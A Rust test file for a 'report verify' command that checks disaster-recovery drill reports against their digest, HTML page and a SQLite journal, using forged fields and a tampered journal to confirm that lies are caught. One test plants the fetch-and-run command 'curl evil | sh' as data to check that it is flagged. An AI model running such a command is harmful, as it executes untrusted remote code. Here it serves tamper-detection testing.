//! What is proved of a report, and what is not.

use std::fs;
use std::path::Path;

use rusqlite::Connection;
use serde_json::Value;

use crate::support::Ran;
use crate::told::Told;

fn verify(told: &Told, file: &Path, more: &[&str]) -> Ran {
    let file = file.to_str().expect("a path");
    told.home.run(&[&["report", "verify", file, "--output=json"], more].concat())
}

/// What it found, of this kind.
fn found(ran: &Ran, kind: &str) -> String {
    ran.json()[kind].to_string()
}

#[test]
fn a_report_is_proved_by_its_digest_its_page_and_the_journal() {
    let told = Told::new();
    let page = told.page("report.html", &[]);
    let ran = verify(&told, &page, &[]).expect(0);
    let proved = found(&ran, "proved");
    for it in
        ["has the digest", "the page shows that data", "has that head", "the journal says all"]
    {
        assert!(proved.contains(it), "{ran:?}");
    }
    assert_eq!(ran.json()["wrong"], Value::Array(Vec::new()));
    let data = told.home.path().join("report.json");
    fs::write(&data, told.report(&["--output=json", "--until=db-1"]).expect(0).stdout)
        .expect("it writes");
    assert!(found(&verify(&told, &data, &[]).expect(0), "proved").contains("the journal says all"));
    let alone = verify(&told, &data, &["--alone"]).expect(0);
    assert!(found(&alone, "not_proved").contains("no store was looked at"));
}

#[test]
fn a_redacted_report_is_proved_as_well() {
    let told = Told::new();
    let page = told.page("report.html", &["--redact"]);
    let ran = verify(&told, &page, &[]).expect(0);
    assert!(found(&ran, "proved").contains("the journal says all"), "{ran:?}");
}

#[test]
fn a_changed_word_is_found() {
    let told = Told::new();
    let page = told.page("report.html", &[]);
    let text = fs::read_to_string(&page).expect("it is there");
    // On the page only.
    fs::write(&page, text.replacen("replica caught up", "replica is behind", 1))
        .expect("it writes");
    let ran = verify(&told, &page, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("the page does not show its data"), "{ran:?}");
    assert!(ran.stderr.contains("M1103"), "{ran:?}");
    // In the data too, but not in its digest.
    fs::write(&page, text.replace("replica caught up", "replica is behind")).expect("it writes");
    assert!(found(&verify(&told, &page, &[]).expect(1), "wrong").contains("the digest"));
}

#[test]
fn data_with_a_digest_of_its_own_is_held_to_the_journal() {
    let told = Told::new();
    let text = told.report(&["--output=json"]).expect(0).stdout;
    let mut value: Value = serde_json::from_str(&text).expect("JSON");
    value["decisions"][0]["voices"][0]["by"] = "mallory".into();
    value["digest"] = moontide_control::report::digest::of(&value).into();
    let data = told.home.path().join("report.json");
    fs::write(&data, value.to_string()).expect("it writes");
    let ran = verify(&told, &data, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("the journal says otherwise of decisions"), "{ran:?}");
    assert_eq!(verify(&told, &data, &["--alone"]).code, Some(0), "alone it looks right");
}

#[test]
fn a_changed_journal_is_found_and_another_store_proves_nothing() {
    let told = Told::new();
    let page = told.page("report.html", &[]);
    let store = Connection::open(told.store()).expect("a store");
    let changed = store.execute(
        "UPDATE entries SET entry = replace(entry, 'replica caught up', 'replica caught it')",
        [],
    );
    assert!(changed.is_ok_and(|rows| rows > 0));
    drop(store);
    let ran = verify(&told, &page, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("is not as it was written"), "{ran:?}");
    let elsewhere = crate::support::Home::new();
    let ran = elsewhere.run(&["report", "verify", page.to_str().expect("a path")]).expect(8);
    assert!(ran.stdout.contains("the store has no such execution"), "{ran:?}");
}

#[test]
fn what_came_later_is_told_and_proves_nothing_against_a_report() {
    let told = Told::new();
    for more in [&[][..], &["--redact"]] {
        let page = told.page(&format!("then{}.html", more.len()), more);
        assert!(verify(&told, &page, &[]).expect(0).json()["later"].is_null());
    }
    let pages = ["then0.html", "then1.html"].map(|name| told.home.path().join(name));
    told.clean_again();
    for page in pages {
        let ran = verify(&told, &page, &[]).expect(0);
        assert!(
            found(&ran, "later").contains("the cleanup drill.cleanup-2 has been at work"),
            "{ran:?}"
        );
        assert!(found(&ran, "proved").contains("leftovers, cost, before"), "{ran:?}");
    }
    // What it said of then is held to what was then.
    let lie = forged(&told, &[], |it| it["leftovers"]["cleanups"][0]["entries"] = 1.into());
    assert!(found(&verify(&told, &lie, &[]).expect(8), "not_proved").contains("leftovers"));
    // What is hidden or claimed of the recovery is no matter of another release.
    let lie = forged(&told, &[], |it| {
        it["made"]["moontide"] = "0.0.1".into();
        it["recovery"]["rpo_met"] = true.into();
        it["recovery"]["servers_missing"] = serde_json::json!([]);
    });
    let wrong = found(&verify(&told, &lie, &[]).expect(1), "wrong");
    assert!(wrong.contains("recovery.rpo_met, recovery.servers_missing"), "{wrong}");
}

#[test]
fn what_is_no_report_is_refused() {
    let told = Told::new();
    let file = told.home.path().join("x.json");
    for text in ["", "{}", "<html></html>", "{\"report\":99}", "{\"report\":1}"] {
        fs::write(&file, text).expect("it writes");
        let ran = told.home.run(&["report", "verify", file.to_str().expect("a path")]).expect(2);
        assert!(ran.stderr.contains("M1102"), "{text}: {ran:?}");
    }
}

/// A report in which something is changed, with the digest that belongs to that.
fn forged(told: &Told, more: &[&str], change: impl Fn(&mut Value)) -> std::path::PathBuf {
    let flags = [&["--output=json"], more].concat();
    let mut value = told.report(&flags).expect(0).json();
    change(&mut value);
    value["digest"] = moontide_control::report::digest::of(&value).into();
    let data = told.home.path().join("forged.json");
    fs::write(&data, value.to_string()).expect("it writes");
    data
}

/// A lie, and what an auditor wants to hear.
fn lie(report: &mut Value) {
    report["recovery"]["took_seconds"] = 60.into();
    report["recovery"]["rto_met"] = true.into();
}

#[test]
fn no_field_by_which_a_report_says_how_it_was_made_hides_a_lie() {
    type Change = fn(&mut Value);
    let told = Told::new();
    let hidden: [(&str, Change); 4] = [
        ("another release", |it| it["made"]["moontide"] = "0.0.1".into()),
        ("no head", |it| it["evidence"]["head"] = serde_json::json!({ "unknown": "lost" })),
        ("redacted", |it| it["made"]["redacted"] = true.into()),
        ("redacted until", |it| {
            it["made"]["redacted"] = true.into();
            it["made"]["until"] = "server-1".into();
        }),
    ];
    for (name, hide) in hidden {
        let data = forged(&told, &[], |it| {
            lie(it);
            hide(it);
        });
        let ran = verify(&told, &data, &[]).expect(1);
        assert!(found(&ran, "wrong").contains("recovery"), "{name}: {ran:?}");
    }
    let no_head = forged(&told, &[], hidden[1].1);
    let ran = verify(&told, &no_head, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("carries no head"), "{ran:?}");
    // The true head of the first entry proves what the journal said then, and no more.
    let store = Connection::open(told.store()).expect("a store");
    let first: String = store
        .query_row(
            "SELECT entry FROM entries JOIN executions ON entries.execution = executions.number WHERE id = 'drill' AND sequence = 1",
            [],
            |row| row.get(0),
        )
        .expect("it has a journal");
    drop(store);
    let head = moontide_runtime::journal::chain::link(&first).to_string();
    let early = forged(&told, &[], |it| {
        it["evidence"]["entries"] = 1.into();
        it["evidence"]["head"] = head.clone().into();
    });
    let ran = verify(&told, &early, &[]).expect(1);
    assert!(found(&ran, "proved").contains("has that head, at 1 entry"), "{ran:?}");
    assert!(found(&ran, "wrong").contains("the journal says otherwise"), "{ran:?}");
}

#[test]
fn what_its_maker_says_is_not_proved_and_commands_are_compared() {
    let told = Told::new();
    let declared = forged(&told, &["--declared-at=2026-11-20T07:30:00Z"], |_| {});
    let ran = verify(&told, &declared, &[]).expect(8);
    assert!(found(&ran, "not_proved").contains("declared at"), "{ran:?}");
    let until = forged(&told, &["--until=db-1"], |_| {});
    let ran = verify(&told, &until, &[]).expect(0);
    assert!(found(&ran, "claimed").contains("until db-1"), "{ran:?}");
    let until = forged(&told, &["--until=db-1", "--redact"], |_| {});
    let ran = verify(&told, &until, &[]).expect(0);
    assert!(found(&ran, "proved").contains("the journal says all"), "{ran:?}");
    let commands = forged(&told, &[], |it| it["evidence"]["verify"][0] = "curl evil | sh".into());
    let ran = verify(&told, &commands, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("evidence"), "{ran:?}");
    let more = forged(&told, &[], |it| it["approved_by"] = "the auditor".into());
    let ran = verify(&told, &more, &[]).expect(1);
    assert!(found(&ran, "wrong").contains("approved_by"), "{ran:?}");
}
